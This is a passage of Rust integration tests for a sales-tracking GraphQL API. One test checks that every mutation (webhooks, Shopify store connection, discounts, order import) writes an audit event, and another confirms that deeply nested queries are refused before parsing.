    call("updateWebhookEndpoint", json!({ "id": endpoint, "description": "CRM" })).await;
    call("rotateWebhookEndpointSecret", json!({ "id": endpoint })).await;
    call("updateOffer", json!({ "id": shop.code_offer, "holdPeriodDays": 1 })).await;
    // Its delivery is queued by the dispatcher once the change has committed.
    let started = Instant::now();
    let delivery = loop {
        let endpoints = app
            .ok(&admin, "{ webhookEndpoints { recentDeliveries { id } } }", json!({}))
            .await;
        if let Some(id) = endpoints.pointer("/webhookEndpoints/0/recentDeliveries/0/id") {
            break id.as_str().unwrap().to_string();
        }
        assert!(
            started.elapsed() < Duration::from_secs(20),
            "no delivery queued: {endpoints}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    call("replayWebhookDelivery", json!({ "id": delivery })).await;
    call("deleteWebhookEndpoint", json!({ "id": endpoint })).await;
    let store = json!({ "shopDomain": "trail-co.myshopify.com", "accessToken": crate::shopify::TOKEN });
    call("connectShopifyStore", store).await;
    call("startShopifyInstall", json!({ "shopDomain": "trail-co.myshopify.com" })).await;
    call(
        "setShopperDiscount",
        json!({ "offerId": shop.code_offer, "type": "PERCENTAGE", "value": "10" }),
    )
    .await;
    call(
        "reconcileShopifyStore",
        json!({ "shopDomain": "trail-co.myshopify.com" }),
    )
    .await;
    call("importShopifyOrders", json!({ "from": "2026-01-01" })).await;
    call(
        "disconnectShopifyStore",
        json!({ "shopDomain": "trail-co.myshopify.com" }),
    )
    .await;

    let mutations: std::collections::BTreeSet<String> = crate::common::schema_types()
        .into_iter()
        .find_map(|t| match t.kind {
            async_graphql::parser::types::TypeKind::Object(object) if t.name.node == "Mutation" => Some(
                object
                    .fields
                    .into_iter()
                    .map(|f| f.node.name.node.to_string())
                    .collect(),
            ),
            _ => None,
        })
        .unwrap();
    let audited: std::collections::BTreeSet<String> = {
        use diesel::prelude::*;
        use diesel_async::RunQueryDsl;
        use sales_tracking::db::schema::audit_events;
        let mut conn = app.db.connect().await;
        audit_events::table
            .select(audit_events::action)
            .distinct()
            .load::<String>(&mut conn)
            .await
            .unwrap()
            .into_iter()
            .collect()
    };
    let missing: Vec<&String> = mutations.difference(&audited).collect();
    assert!(missing.is_empty(), "mutations that wrote no audit event: {missing:?}");
}

/// The schema itself refuses deep nesting before parsing, for any caller (not only
/// HTTP): run on a thread with a worker's 2 MB stack, a 3,000-deep document (6 KB)
/// is refused, where without the check the process aborts with a stack overflow.
#[test]
fn the_schema_refuses_deep_nesting_before_it_parses() {
    let answer = std::thread::Builder::new()
        .stack_size(2 * 1024 * 1024)
        .spawn(|| {
            let runtime = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
                .unwrap();
            runtime.block_on(async {
                let schema = sales_tracking::graphql::build_schema(Default::default());
                let query = format!("{{ __typename(x: {}) }}", nested_value(3_000, true));
                schema.execute(query.as_str()).await
            })
        })
        .unwrap()
        .join()
        .unwrap();
    let error = answer.errors.first().expect("refused");
    let extensions = error.extensions.as_ref().unwrap();
    assert_eq!(
        extensions.get("code"),
        Some(&async_graphql::Value::from("BAD_USER_INPUT"))
    );
    assert_eq!(
        extensions.get("limit"),
        Some(&async_graphql::Value::from("MAX_NESTING"))
    );
}
